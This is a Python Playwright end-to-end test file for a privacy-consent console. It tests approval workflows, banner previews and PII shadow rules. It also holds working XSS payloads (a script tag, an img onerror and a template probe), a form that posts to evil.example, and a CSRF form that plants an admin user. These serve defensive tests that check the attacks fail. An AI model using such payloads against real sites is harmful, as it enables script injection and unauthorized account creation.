"""What officers do in the console and what becomes of it: drafts, four eyes, the banner, the map, attacks by text."""

import json
import time
from collections.abc import Iterator

import httpx
import pytest
from playwright.sync_api import Browser, expect

from tests.e2e.browser import Witness
from tests.e2e.console import WRITE_KEY, Bureau, bureau, picture, serious

pytestmark = pytest.mark.browser

HOSTILE = "</p></option></textarea><script>window.hurt=1</script><img src=x onerror='window.hurt=1'>{{7*7}}"


@pytest.fixture(scope="module")
def office(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Bureau]:
    with bureau(tmp_path_factory.mktemp("work") / "data", days=3) as made:
        yield made


def test_a_draft_its_banner_and_four_eyes(office: Bureau, chromium: Browser) -> None:
    officer = office.inside(chromium, "privacy_officer@shop.example")
    page = officer.page
    officer.open("s/default/policy")
    page.fill("#comment", "Ask first in California as well")
    page.click("button:has-text('New draft')")
    page.click("a:has-text('us-ca')")
    page.select_option("#default", "opt_in")
    page.click("button:has-text('Save')")
    expect(page.locator("table.diff ins").first).to_have_text('"opt_in"')
    picture(page, "draft", docs=True)
    page.click("a:has-text('Preview')")
    page.select_option("#region", "GB")
    page.wait_for_url("**region=GB**")
    frame = page.frame_locator("iframe")
    frame.get_by_role("button", name="Reject all").wait_for()
    picture(page, "preview", docs=True)
    frame.get_by_role("button", name="Reject all").click()
    expect(frame.locator("#outcome")).to_contain_text("Marketing: refused")
    page.click("a:has-text('Ask first')")
    page.click("button:has-text('Send for approval')")
    expect(page.locator("main")).to_contain_text("waits for approval")
    assert page.locator("button:has-text('Approve and publish')").count() == 0
    approver = office.inside(chromium, "approver@shop.example")
    approver.open("s/default/overview")
    approver.page.click("a:has-text('wait for your approval')")
    approver.page.click("a:has-text('Ask first in California')")
    picture(approver.page, "review")
    assert serious(approver.page) == []
    approver.page.click("button:has-text('Approve and publish')")
    expect(approver.page.locator("h1")).to_have_text("Version 2")
    assert officer.witness.complaints == approver.witness.complaints == []
    officer.close()
    approver.close()


def verdicts(
    office: Bureau, event: str, preferences: dict[str, bool], times: int = 12, properties: dict[str, str] | None = None
) -> set[str]:
    """What the collector says of an event, on many connections, so that both workers are asked."""
    found = set()
    for number in range(times):
        context = {"consent": {"categoryPreferences": preferences}}
        message = {"type": "track", "event": event, "anonymousId": f"a{number}", "context": context,
                   "properties": properties or {}}  # fmt: skip
        body = json.dumps({"writeKey": WRITE_KEY, "batch": [message]})
        answer = httpx.post(f"{office.base}/v1/batch", content=body).json()
        found.add(answer["rejected"][0]["reason"] if answer["rejected"] else "accepted")
    return found


def test_the_map_is_changed_and_the_next_event_obeys_in_all_workers(office: Bureau, chromium: Browser) -> None:
    said = {"analytics": True, "marketing": False}
    assert verdicts(office, "Newsletter Opened", said) == {"accepted"}
    officer = office.inside(chromium, "privacy_officer@shop.example")
    page = officer.page
    officer.open("s/default/map")
    row = page.locator("tr:has(th:text-is('Newsletter Opened'))").last
    row.locator("select").select_option("marketing")
    row.locator("button").click()
    expect(page.locator(".said")).to_contain_text("Saved")
    changed = time.monotonic()
    while verdicts(office, "Newsletter Opened", said) != {"no_consent"}:
        assert time.monotonic() - changed < 60, "both workers must obey; at rest it takes them a second"
        time.sleep(0.1)
    assert verdicts(office, "Newsletter Opened", {"marketing": True}) == {"accepted"}
    assert officer.witness.complaints == []
    officer.close()


@pytest.mark.slow
def test_a_rule_is_put_into_shadow_by_keyboard_and_the_next_event_obeys_in_all_workers(
    office: Bureau, chromium: Browser
) -> None:
    """Values that a rule in shadow mode finds are counted and left; the page shows their form, never one of them."""
    memo = {"memo": "write to mary@shelley.example"}
    assert verdicts(office, "Memo Written", {"analytics": True}, properties=memo) == {"accepted"}
    officer = office.inside(chromium, "privacy_officer@shop.example")
    page = officer.page
    officer.open("s/default/pii?source=shop")
    page.locator("select[name='rule.email']").focus()
    page.keyboard.press("ArrowDown")
    save = page.locator("form:has(select[name='rule.email']) button.main")
    for _ in range(80):  # by tabbing through what comes after it, as somebody without a mouse has to
        if save.evaluate("button => button === document.activeElement"):
            break
        page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    expect(page.locator(".said")).to_contain_text("Saved")
    seen: set[str] = set()
    deadline = time.monotonic() + 60
    while len(seen) < 2:
        assert time.monotonic() < deadline, f"only {seen} obey"
        verdicts(office, "Memo Written", {"analytics": True}, properties=memo)
        books = [path for path in (office.data / "pii").glob("*/*.json") if path.parent.name != "c0-0"]
        seen = {path.parent.name for path in books if "properties.memo:email:shadow:email" in path.read_text()}
        time.sleep(0.2)
    officer.open("s/default/pii?source=shop&days=1&field=properties.memo&class=email")
    cell = page.locator("#cell").inner_text()
    assert "shadow" in cell and "xxxx@xxxxxxx.xxxxxxx" in cell and "shelley" not in page.content()
    assert officer.witness.complaints == []
    officer.close()


def test_texts_of_purposes_and_notices_stay_text_everywhere(office: Bureau, chromium: Browser) -> None:
    """XSS through what an officer writes: in the console, in the preview's frame, and in the banner's shadow."""
    officer = office.inside(chromium, "privacy_officer@shop.example")
    page = officer.page
    officer.open("s/default/policy")
    page.fill("#comment", HOSTILE)
    page.click("button:has-text('New draft')")
    draft = page.url.partition("?")[0]
    page.click("a:has-text('marketing')")
    page.fill("[name='title.en']", HOSTILE)
    page.fill("[name='description.en']", HOSTILE)
    page.fill("#method", HOSTILE)
    page.click("button:has-text('Save')")
    page.wait_for_url("**said=saved")
    page.click("a[href*='main.en']")
    page.fill("#title", HOSTILE)
    page.fill("#body", HOSTILE)
    page.fill("[name='label.acceptAll']", "<b onclick=hurt()>yes</b>")
    page.click("button:has-text('Save')")
    page.wait_for_url("**said=saved")
    for path in ("", "/part/purpose?key=marketing", "/part/notice?key=main.en"):
        page.goto(draft + path)
        assert page.evaluate("window.hurt") is None
        assert page.locator("main img").count() == 0
    page.goto(f"{draft}/preview?region=DE&locale=en")
    frame = page.frame_locator("iframe")
    frame.get_by_role("button", name="<b onclick=hurt()>yes</b>").wait_for()
    inside = page.frames[1]
    assert inside.evaluate("window.hurt") is None
    hidden = "document.querySelector('firsthand-banner').shadowRoot.querySelectorAll('img, script, b').length"
    assert inside.evaluate(hidden) == 0
    officer.open("s/default/policy")
    assert page.evaluate("window.hurt") is None
    auditor = office.inside(chromium, "auditor@shop.example")
    auditor.open("s/default/audit")
    assert auditor.page.evaluate("window.hurt") is None
    assert officer.witness.complaints == auditor.witness.complaints == []
    officer.close()
    auditor.close()


def test_even_markup_that_got_in_could_not_run(office: Bureau, chromium: Browser) -> None:
    """The policy, tried: script and style of a page's own, and forms that lead away."""
    officer = office.inside(chromium, "viewer@shop.example")
    officer.witness.excused = ("Content Security Policy",)
    officer.open("s/default/overview")
    officer.page.evaluate(
        """() => {
            document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.hurt=1">'
              + '<p id="styled" style="color: rgb(1, 2, 3)">x</p>'
              + '<form id="away" action="https://evil.example/"><input name="a"></form>');
            const script = document.createElement('script');
            script.textContent = 'window.hurt = 2';
            document.body.append(script);
            document.getElementById('away').submit();
        }"""
    )
    officer.page.wait_for_timeout(200)
    assert officer.page.evaluate("window.hurt") is None
    assert officer.page.evaluate("getComputedStyle(document.getElementById('styled')).color") != "rgb(1, 2, 3)"
    assert "evil.example" not in officer.page.url
    assert len(officer.witness.complaints) >= 3
    officer.close()


def test_a_form_of_another_site_changes_nothing(office: Bureau, chromium: Browser) -> None:
    """CSRF in a real browser: the strict cookie stays at home, and fetch metadata tells on the form."""
    officer = office.inside(chromium, "admin@shop.example")
    port = office.base.rpartition(":")[2]
    evil = officer.context.new_page()
    evil.route("http://evil.test/**", lambda route: route.fulfill(content_type="text/html", body=f"""
        <form method=post action="http://127.0.0.1:{port}/console/users">
        <input name=login value=planted><input name=role value=admin><input name=sites value=*></form>"""))  # fmt: skip
    evil.goto("http://evil.test/")
    with evil.expect_navigation():
        evil.evaluate("document.forms[0].submit()")
    officer.open("users")
    assert "planted" not in officer.page.inner_text("main")
    officer.close()


def test_who_is_locked_out_is_out_with_the_next_click_and_sees_no_more_events(
    office: Bureau, chromium: Browser
) -> None:
    analyst = office.inside(chromium, "analyst@shop.example")
    analyst.open("live")
    analyst.page.wait_for_selector("#state[data-state=live]")
    verdicts(office, "Seen Live", {"analytics": True}, 1)
    expect(analyst.page.locator("#rows")).to_contain_text("Seen Live")
    picture(analyst.page, "live")
    admin = office.inside(chromium, "admin@shop.example")
    admin.open("users")
    row = admin.page.locator("tr:has(th:text-is('analyst@shop.example'))")
    row.locator("summary").click()
    row.locator("input[name=active]").uncheck()
    row.locator("button:has-text('Save')").click()
    expect(admin.page.locator(".said")).to_contain_text("Saved")
    analyst.page.wait_for_selector("#state:not([data-state=live])", timeout=60_000)
    analyst.witness.excused = ("401", "net::ERR", "MIME type")
    assert analyst.open("health") == 200
    assert analyst.page.url.startswith(f"{office.base}/console/login")
    assert admin.witness.complaints == []
    analyst.close()
    admin.close()


def test_the_witness_would_have_heard(office: Bureau, chromium: Browser) -> None:
    context = chromium.new_context()
    witness = Witness().watch(context)
    page = context.new_page()
    page.goto(f"{office.base}/console/login")
    page.evaluate("console.error('heard')")
    assert any("heard" in said for said in witness.complaints)
    context.close()
